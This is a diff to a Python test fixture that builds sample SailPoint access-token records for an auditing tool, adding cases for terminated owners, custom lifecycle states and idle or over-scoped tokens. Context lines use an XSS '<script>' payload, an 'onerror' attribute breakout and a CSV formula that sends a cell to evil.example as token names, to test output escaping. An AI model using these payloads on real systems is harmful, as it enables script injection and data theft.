@@ -15,7 +15,8 @@ never-used             ``never-used`` (lastUsed null, created 45 days ago)
 no-expiry-legacy       ``no-expiry``: a 2023-era record without managed/TTL/expirationDate fields
 no-expiry-mid          ``no-expiry``: 2024/25-era record, ``managed`` present, no expiry fields
 no-expiry-modern       ``no-expiry``: expirationDate null + userAwareTokenNeverExpires (v2025+);
-                       absent in v3/v2024
+                       absent in v3/v2024; also ``privileged-access`` (idn:nelm:manage, whose
+                       operations name no user level, so no level rules it out)
 long-lifetime          ``long-lifetime`` (730-day lifetime)
 expired                ``expired`` (expired 10 days ago, still listed)
 expiring-soon          ``expiring-soon`` (expires in 7 days)
@@ -38,6 +39,14 @@ managed-workflow-1/2   managed PATs (hidden from credentials without the managed
 markup-script          clean, name is a ``<script>`` payload, owner name has HTML markup
 markup-attr            clean, name breaks out of an HTML attribute
 csv-formula            clean, name is a CSV formula (``=HYPERLINK(…)``)
+terminated-active      ``inactive-owner``: lifecycle state "Terminated" while identityState
+                       stays ACTIVE (a lifecycle state without an identity state, issue 13)
+custom-lifecycle       ``owner-unverified``: lifecycle state "Leave of Absence", in neither
+                       default list (inactive-owner is manual too)
+idle-since-recording   ``stale``, not ``never-used``: created in 2022, lastUsed null; SailPoint
+                       has recorded lastUsed only since 2023-02-02 (and ``no-expiry``: legacy)
+latent-admin-scope     ``privileged-access`` manual: idn:sources:manage on a plain user's PAT
+                       (the v3 spec lets only ORG_ADMIN, SOURCE_ADMIN, SOURCE_SUBADMIN use it)
 =====================  ==========================================================================
 
 Privileged scopes used (for the ``privileged-access`` rule's SailPoint list):
@@ -48,7 +57,7 @@ Privileged scopes used (for the ``privileged-access`` rule's SailPoint list):
 from __future__ import annotations
 
 from dataclasses import replace
-from datetime import datetime, timedelta
+from datetime import UTC, datetime, timedelta
 
 from providers.sailpoint.generator import generate
 from providers.sailpoint.tenantdata import (
@@ -97,11 +106,15 @@ def curated(anchor: datetime) -> Dataset:
     heidi = _person("heidi", "Heidi Brandt", "ACTIVE", "Active")
     priya = _person("priya", "Priya Raman", "ACTIVE", "Active")
     mallory = _person("mallory", "<b>Mallory</b> O'Neil", "ACTIVE", "Active")
+    ivan = _person("ivan", "Ivan Petrov", "ACTIVE", "Terminated")  # identityState left ACTIVE
+    judy = _person("judy", "Judy Kamau", "ACTIVE", "Leave of Absence")  # a tenant's own state
     auditor = replace(auditor, capabilities=("ORG_ADMIN",))
     frank = replace(frank, capabilities=("ORG_ADMIN",))  # full-scopes-all: privileged-access
     priya = replace(priya, capabilities=("CERT_ADMIN", "REPORT_ADMIN"))  # unclassified: manual
     ghost_id = hex_id("identity:former-contractor")
-    identities = (auditor, alice, bob, carol, dave, erin, frank, grace, heidi, priya, mallory)
+    identities = (
+        auditor, alice, bob, carol, dave, erin, frank, grace, heidi, priya, mallory, ivan, judy
+    )  # fmt: skip
 
     def pat(
         label: str,
@@ -177,7 +190,7 @@ def curated(anchor: datetime) -> Dataset:
         pat(
             "no-expiry-modern",
             grace,
-            rules=("no-expiry",),
+            rules=("no-expiry", "privileged-access"),
             created=-20,
             scope=("idn:access-request:manage", "idn:nelm:manage"),
             expires=None,
@@ -255,5 +268,24 @@ def curated(anchor: datetime) -> Dataset:
         pat("markup-script", mallory, name='<script>alert("pat")</script>'),
         pat("markup-attr", mallory, name='"><img src=x onerror=alert(1)>'),
         pat("csv-formula", mallory, name='=HYPERLINK("http://evil.example/?d="&A1,"open")'),
+        pat("terminated-active", ivan, rules=("inactive-owner",)),
+        pat("custom-lifecycle", judy, rules=("owner-unverified",)),
+        pat(
+            "idle-since-recording",
+            alice,
+            rules=("stale", "no-expiry"),
+            created=-(anchor - datetime(2022, 9, 1, tzinfo=UTC)).days,
+            used=None,
+            expires=None,
+            era="legacy",
+            scope=("sp:scopes:default",),
+            name="Idle since recording",
+        ),
+        pat(
+            "latent-admin-scope",
+            grace,
+            rules=("latent-privileged",),
+            scope=("idn:sources:manage", "idn:access-request:manage"),
+        ),
     ]
     return Dataset(identities=identities, pats=tuple(pats), me=auditor.id)
